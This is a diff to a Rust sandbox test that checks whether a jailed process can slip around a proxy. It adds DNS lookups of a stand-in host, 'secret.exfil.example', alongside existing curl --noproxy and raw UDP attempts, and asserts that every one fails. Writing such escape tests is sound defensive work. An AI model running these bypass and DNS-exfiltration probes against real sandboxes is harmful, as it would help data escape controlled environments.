@@ -183,6 +183,10 @@ fn going_around_the_landjail_proxy_reaches_nothing() {
     let far = FarHost::new().expect("far host");
     let home = tempfile::tempdir().unwrap();
     let (v4, v6) = (far.far_v4, far.far_v6);
+    // The far host is the resolver (it answers UDP and TCP 53): a DNS lookup from the jail
+    // would be counted there, so it must fail before sending anything.
+    far.set_near_resolv_conf(&format!("nameserver {v4}\noptions timeout:1 attempts:1\n"))
+        .unwrap();
     // The far host listens on the proxy's port too: the Go landjail lets this through.
     let script = format!(
         "curl -sS --max-time 5 --noproxy '*' http://{v4}:{PROXY_PORT}/; echo \"proxy-port-v4=$?\"\n\
@@ -190,6 +194,8 @@ fn going_around_the_landjail_proxy_reaches_nothing() {
          curl -sS --max-time 5 --noproxy '*' http://{v4}:80/; echo \"port80=$?\"\n\
          curl -sS --max-time 5 --noproxy '*' http://127.0.0.2:{PROXY_PORT}/; echo \"lo2=$?\"\n\
          python3 -c \"import socket; s=socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.sendto(b'x', ('{v4}', 53))\" 2>/dev/null; echo \"udp=$?\"\n\
+         getent hosts secret.exfil.example; echo \"dns=$?\"\n\
+         getent ahostsv4 secret.exfil.example; echo \"dns4=$?\"\n\
          exit 0\n"
     );
     let out = boundary(
@@ -207,6 +213,8 @@ fn going_around_the_landjail_proxy_reaches_nothing() {
         "port80=7",
         "lo2=7",
         "udp=1",
+        "dns=2",
+        "dns4=2",
     ] {
         assert!(stdout.contains(want), "missing {want:?}:\n{t}");
     }
